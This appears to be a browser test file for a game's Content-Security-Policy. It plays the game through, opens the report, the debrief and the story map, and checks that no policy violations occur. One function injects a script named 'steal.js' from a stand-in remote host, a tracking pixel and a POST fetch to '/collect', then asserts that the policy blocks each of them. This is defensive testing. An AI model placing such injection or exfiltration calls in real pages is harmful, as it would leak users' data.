/**
 * The Content-Security-Policy of the built game (tools/csp.ts, docs/reliability.md): the hosted build
 * and the single file each carry it in a meta, play a scenario to its reveal with pictures and sound,
 * open the printable report, the debrief and the story map without one violation, and refuse a
 * script, a picture or a fetch from anywhere else, and an inline script.
 */
import { resolve } from 'node:path';
import type { BrowserContext, Page } from 'playwright-core';
import { afterEach, beforeAll, describe, expect, inject, it } from 'vitest';
import { ROOT } from '../support/stories.ts';
import { openBrowser, type OpenBrowser } from './chromium.ts';
import { expectRevealOf, openScenario, playByKeys } from './drive.ts';
import { buildSingleFile } from './single-build.ts';
import { distinctColours, pixels } from './pixels.ts';
import { FORECAST, forecastLogs, pickLogs } from './screens.ts';
import { expectedPlayThrough } from './story-script.ts';

const SINGLE_OUT_DIR = resolve(ROOT, 'test-results/dist-single-csp');
let singleUrl = '';

beforeAll(async () => {
  singleUrl = await buildSingleFile(SINGLE_OUT_DIR);
}, 180_000);

let browser: OpenBrowser | undefined;
afterEach(async () => {
  await browser?.close();
  browser = undefined;
});

/** Somewhere the game must never reach: its requests are refused here too, so nothing leaves the machine. */
const REMOTE = 'https://remote.example';

interface Violation {
  readonly page: string;
  readonly directive: string;
  readonly blocked: string;
  /** The script and line that asked, and the start of what was refused: to find the cause. */
  readonly where: string;
}

/**
 * Every `securitypolicyviolation` in every page of the context (the report's tab too, and pages since
 * left), handed to the test as it happens, and every console message about the policy. Installed
 * before any of the page's scripts run.
 */
async function watchPolicy(context: BrowserContext): Promise<{ violations: Violation[]; consoleLines: string[] }> {
  await context.route(`${REMOTE}/**`, (route) => route.abort('blockedbyclient'));
  const violations: Violation[] = [];
  await context.exposeFunction('reportPolicyViolation', (violation: Violation) => void violations.push(violation));
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const report = (window as unknown as { reportPolicyViolation: (v: Violation) => void }).reportPolicyViolation;
      report({ page: location.protocol, directive: event.effectiveDirective, blocked: event.blockedURI, where: `${event.sourceFile}:${event.lineNumber}:${event.columnNumber} ${event.sample}` });
    });
  });
  const consoleLines: string[] = [];
  const listen = (page: Page) =>
    page.on('console', (message) => {
      if (/Content Security Policy|Refused to/i.test(message.text())) consoleLines.push(message.text());
    });
  context.pages().forEach(listen);
  context.on('page', listen);
  return { violations, consoleLines };
}

async function expectPolicyMeta(page: Page): Promise<void> {
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(policy).toContain("default-src 'none'");
  expect(policy).toMatch(/script-src 'self'( 'sha256-[^']+')*;/);
  expect(policy).not.toContain('unsafe-eval');
  expect(policy).not.toContain('unsafe-inline');
}

/** A scenario to its reveal, with its pictures drawn and its sounds loaded; then the report and the debrief. */
async function playToDebrief(page: Page, url: string): Promise<void> {
  const steps = expectedPlayThrough(FORECAST, () => 0);
  await openScenario(page, url, FORECAST);
  await expect.poll(async () => distinctColours(await pixels(page, { x: 440, y: 80, width: 520, height: 100 })), { timeout: 15_000 }).toBeGreaterThan(100);
  const loadedSounds = () => page.evaluate(() => ((window as unknown as { Howler?: { _howls: { state(): string }[] } }).Howler?._howls ?? []).filter((howl) => howl.state() === 'loaded').length);
  await expect.poll(loadedSounds, { timeout: 15_000 }).toBeGreaterThanOrEqual(2);
  await playByKeys(page, steps);
  await expectRevealOf(page, FORECAST, steps);
  const [report] = await Promise.all([page.waitForEvent('popup'), page.getByRole('button', { name: 'Printable report' }).click()]);
  await report.waitForLoadState();
  await expect(report.locator('h1').innerText()).resolves.toBe('The forecast');
  // The print button works under the report's own policy (its handler is not an inline attribute).
  await report.evaluate(() => {
    (window as unknown as { printed: number }).printed = 0;
    window.print = () => void ((window as unknown as { printed: number }).printed += 1);
  });
  await report.getByRole('button', { name: 'Print or save as PDF' }).click();
  await expect.poll(() => report.evaluate(() => (window as unknown as { printed: number }).printed)).toBe(1);
  await report.close();
  await page.getByRole('button', { name: 'Debrief' }).click();
  await page.getByRole('heading', { name: `Decision 1 of ${steps.length - 1}` }).waitFor();
}

/** The saved-logs screen with three logs, and their story map (whose SVG carries a style of its own). */
async function openStoryMap(page: Page, url: string): Promise<void> {
  await page.goto(url);
  await page.getByRole('button', { name: 'Open saved logs' }).click();
  await pickLogs(page, forecastLogs(3));
  await page.getByRole('heading', { name: '3 players', level: 1 }).waitFor();
  await page.getByRole('button', { name: 'See on the map' }).click();
  await page.locator('svg.story-map').waitFor({ timeout: 30_000 });
  // The map's own style is in force: its edges are drawn as the style says, not in the default black.
  await expect.poll(() => page.locator('.map-edge path').first().evaluate((path) => getComputedStyle(path).stroke)).not.toBe('none');
}

/** What a page of the game refuses: a remote script and picture, a fetch elsewhere, an inline script. */
async function expectOutsideRefused(page: Page, violations: Violation[]): Promise<void> {
  await page.evaluate((remote) => {
    const script = document.createElement('script');
    script.src = `${remote}/steal.js`;
    document.head.append(script);
    const image = new Image();
    image.src = `${remote}/pixel.png`;
    document.body.append(image);
    void fetch(`${remote}/collect`, { method: 'POST', body: 'log' }).catch(() => undefined);
    const inline = document.createElement('script');
    inline.textContent = 'window.inlineRan = true;';
    document.head.append(inline);
  }, REMOTE);
  await expect.poll(() => violations.map((v) => `${v.directive} ${v.blocked}`).sort()).toEqual(
    [`connect-src ${REMOTE}/collect`, `img-src ${REMOTE}/pixel.png`, `script-src-elem ${REMOTE}/steal.js`, 'script-src-elem inline'].sort(),
  );
  expect(await page.evaluate(() => (window as unknown as { inlineRan?: boolean }).inlineRan)).toBeUndefined();
}

describe('the Content-Security-Policy', () => {
  const builds = [
    { name: 'the hosted game', url: () => inject('baseUrl') },
    { name: 'the single file', url: () => singleUrl },
  ];
  for (const { name, url } of builds) {
    it(`${name}: plays to the reveal, the report, the debrief and the story map with no violation, and refuses anything from elsewhere`, async () => {
      browser = await openBrowser();
      const { page, context } = browser;
      const policy = await watchPolicy(context);
      await playToDebrief(page, url());
      await expectPolicyMeta(page);
      await openStoryMap(page, url());
      expect(policy.violations).toEqual([]);
      expect(policy.consoleLines).toEqual([]);
      expect(browser.consoleProblems).toEqual([]);

      await expectOutsideRefused(page, policy.violations);
    });
  }
});
